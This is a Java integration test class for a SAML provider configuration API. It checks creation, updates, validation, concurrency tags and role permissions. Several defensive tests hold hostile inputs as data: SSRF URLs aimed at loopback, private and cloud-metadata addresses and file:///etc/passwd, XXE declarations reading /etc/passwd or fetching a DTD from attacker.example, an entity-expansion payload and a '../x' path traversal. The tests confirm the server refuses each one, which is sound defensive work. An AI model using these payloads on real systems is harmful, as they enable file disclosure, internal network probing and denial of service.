package bulla.it;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import java.util.HashMap;
import java.util.Map;
import java.util.stream.StreamSupport;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** The configuration of SAML providers as the published samples show it. */
@SharedServer
class SamlProvidersIT {
  private static final String PROVIDERS = "/pty/v1/auth/saml/providers";

  /** Generated; no such provider exists. It has no certificate, so signatures are not checked. */
  static final String METADATA =
      """
      <?xml version="1.0"?>
      <EntityDescriptor xmlns="urn:oasis:names:tc:SAML:2.0:metadata" entityID="https://idp.example/">
        <IDPSSODescriptor protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol">
          <SingleLogoutService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Redirect"
              Location="https://idp.example/saml2"/>
          <SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST"
              Location="https://idp.example/saml2"/>
        </IDPSSODescriptor>
      </EntityDescriptor>
      """;

  @Test
  void aProviderLivesAsThePublishedSamplesShow(TestServer server) {
    Api administrator = server.administrator();
    String alias = TestServer.unique("azure-ad-saml");

    JsonNode created = administrator.post(PROVIDERS, sample(alias, METADATA)).with(200).json();
    assertThat(created.toString())
        .isEqualTo(
            "{\"status\":\"created\",\"alias\":\""
                + alias
                + "\",\"configType\":\"metadataFileContent\",\"message\":\"SAML provider created"
                + " successfully from metadata\"}");
    administrator.post(PROVIDERS, sample(alias, METADATA)).problem(409, "PROVIDER_EXISTS");

    JsonNode provider = administrator.get(PROVIDERS + "/" + alias).with(200).json();
    assertThat(StreamSupport.stream(((Iterable<String>) provider::fieldNames).spliterator(), false))
        .containsExactly("alias", "displayName", "providerId", "enabled", "config");
    assertThat(provider.path("displayName").asText()).isEqualTo("Test Azure AD SAML");
    assertThat(provider.path("providerId").asText()).isEqualTo("saml");
    assertThat(provider.path("config").path("idpEntityId").asText())
        .isEqualTo("https://idp.example/");
    assertThat(provider.path("config").path("singleSignOnServiceUrl").asText())
        .isEqualTo("https://idp.example/saml2");
    assertThat(provider.path("config").path("postBindingLogout").asText()).isEqualTo("false");
    assertThat(provider.path("config").path("wantAssertionsSigned").asText()).isEqualTo("true");
    assertThat(administrator.get(PROVIDERS).with(200).json()).contains(provider);

    assertThat(
            administrator
                .put(
                    PROVIDERS + "/" + alias,
                    Map.of("displayName", "Azure AD SAML Updated", "forceAuthn", true))
                .with(200)
                .text())
        .isEqualTo("{\"status\":\"updated\",\"alias\":\"" + alias + "\"}");
    JsonNode updated = administrator.get(PROVIDERS + "/" + alias).with(200).json();
    assertThat(updated.path("displayName").asText()).isEqualTo("Azure AD SAML Updated");
    assertThat(updated.path("config").path("forceAuthn").asText()).isEqualTo("true");

    assertThat(administrator.delete(PROVIDERS + "/" + alias).with(200).text())
        .isEqualTo("{\"status\":\"deleted\",\"alias\":\"" + alias + "\"}");
    administrator.get(PROVIDERS + "/" + alias).problem(404, "PROVIDER_NOT_FOUND");
    administrator.put(PROVIDERS + "/" + alias, Map.of()).problem(404, "PROVIDER_NOT_FOUND");
    administrator.delete(PROVIDERS + "/" + alias).problem(404, "PROVIDER_NOT_FOUND");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "http://idp.example/metadata",
        "https://127.0.0.1:%s/pty/v1/auth/jwks",
        "https://localhost:%s/pty/v1/auth/jwks",
        "https://[::1]:%s/",
        "https://[::ffff:127.0.0.1]:%s/",
        "https://0.0.0.0:%s/",
        "https://10.0.0.1/",
        "https://169.254.169.254/latest/meta-data/",
        "https://[fd00::1]/",
        "https://[fe80::1]/",
        "https://[ff02::1]/",
        "file:///etc/passwd"
      })
  void theServerIsNobodysWayIntoItsOwnNetwork(String url, TestServer server) {
    String port = server.nobody().url().replaceAll(".*:", "");
    Map<String, Object> sample = sample(TestServer.unique("idp"), null);
    sample.put("configType", "metadataUrl");
    sample.put("metadataUrl", url.formatted(port));

    server.administrator().post(PROVIDERS, sample).problem(400, "METADATA_UNREACHABLE");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>",
        "<!DOCTYPE a SYSTEM \"https://attacker.example/a.dtd\">",
        "<!DOCTYPE a [<!ENTITY a \"aa\"><!ENTITY b \"&a;&a;&a;\">]>"
      })
  void aDocumentTypeDeclarationIsRefused(String declaration, TestServer server) {
    String hostile = METADATA.replace("?>\n", "?>" + declaration);

    Answer answer =
        server.administrator().post(PROVIDERS, sample(TestServer.unique("idp"), hostile));

    answer.problem(400, "METADATA_REFUSED");
    assertThat(answer.text()).doesNotContain("root:");
  }

  @Test
  void anOversizedDocumentIsRefused(TestServer server) {
    String large = METADATA + "<!-- " + "x".repeat(600_000) + " -->";

    server
        .administrator()
        .post(PROVIDERS, sample(TestServer.unique("idp"), large))
        .problem(400, "METADATA_REFUSED");
  }

  @Test
  void badBodiesAreRefusedWithTheMemberToBlame(TestServer server) {
    Api administrator = server.administrator();
    refused(administrator, "alias", "../x", "INVALID_VALUE", "alias");
    refused(administrator, "configType", "ftp", "INVALID_VALUE", "configType");
    refused(administrator, "signingCertificate", "MIID", "INVALID_VALUE", "signingCertificate");
    refused(administrator, "nameIdPolicyFormat", "string", "INVALID_VALUE", "nameIdPolicyFormat");
    refused(administrator, "signatureAlgorithm", "RSA_SHA1", "INVALID_VALUE", "signatureAlgorithm");
    refused(administrator, "metadataFileContent", "string", "METADATA_REFUSED", "metadata");
    refused(administrator, "validateSignature", true, "METADATA_REFUSED", "signingCertificate");
    refused(administrator, "displayName", " ", "INVALID_VALUE", "displayName");
    refused(administrator, "forceAuth", true, "UNKNOWN_MEMBER", "forceAuth");
  }

  @Test
  void aStaleTagChangesNothing(TestServer server) {
    Api administrator = server.administrator();
    String path = PROVIDERS + "/" + TestServer.unique("idp");
    administrator
        .post(PROVIDERS, sample(path.substring(PROVIDERS.length() + 1), METADATA))
        .with(200);
    String first = administrator.get(path).with(200).header("ETag");

    administrator.put(path, Map.of("enabled", false), "If-Match", first).with(200);
    administrator
        .put(path, Map.of("enabled", true), "If-Match", first)
        .problem(412, "PRECONDITION_FAILED");
    administrator.delete(path, "If-Match", first).problem(412, "PRECONDITION_FAILED");
    assertThat(administrator.get(path).json().path("enabled").asBoolean(true)).isFalse();
    administrator.delete(path, "If-Match", administrator.get(path).header("ETag")).with(200);
  }

  @Test
  void whoeverMayReadProvidersMayNotChangeThem(TestServer server) {
    Api viewer = server.as("saml_viewer");
    viewer.get(PROVIDERS).with(200);
    viewer.post(PROVIDERS, sample("idp", METADATA)).problem(403, "FORBIDDEN");
    viewer.put(PROVIDERS + "/idp", Map.of()).problem(403, "FORBIDDEN");
    viewer.delete(PROVIDERS + "/idp").problem(403, "FORBIDDEN");
    server.as("group_admin").get(PROVIDERS).problem(403, "FORBIDDEN");
  }

  private static void refused(
      Api administrator, String member, Object value, String code, String named) {
    Map<String, Object> sample = sample(TestServer.unique("idp"), METADATA);
    sample.put(member, value);
    assertThat(administrator.post(PROVIDERS, sample).problem(400, code).toString()).contains(named);
  }

  static Map<String, Object> sample(String alias, String metadata) {
    var sample = new HashMap<String, Object>();
    sample.put("alias", alias);
    sample.put("displayName", "Test Azure AD SAML");
    sample.put("configType", "metadataFileContent");
    sample.put(
        "metadataUrl",
        "https://login.microsoftonline.com/tenant-id/federationmetadata/2007-06/federationmetadata.xml");
    sample.put("metadataFileContent", metadata);
    sample.put("nameIdPolicyFormat", "urn:oasis:names:tc:SAML:2.0:nameid-format:persistent");
    sample.put("forceAuthn", false);
    sample.put("validateSignature", false);
    sample.put("wantAssertionsSigned", true);
    sample.put("wantAssertionsEncrypted", false);
    sample.put("signatureAlgorithm", "RSA_SHA256");
    sample.put(
        "attributeMapping",
        Map.of(
            "email",
            "http://schemas.xmlsoap.org/ws/2005/05/identity/claims/emailaddress",
            "firstName",
            "http://schemas.xmlsoap.org/ws/2005/05/identity/claims/givenname"));
    sample.put("enabled", true);
    return sample;
  }
}
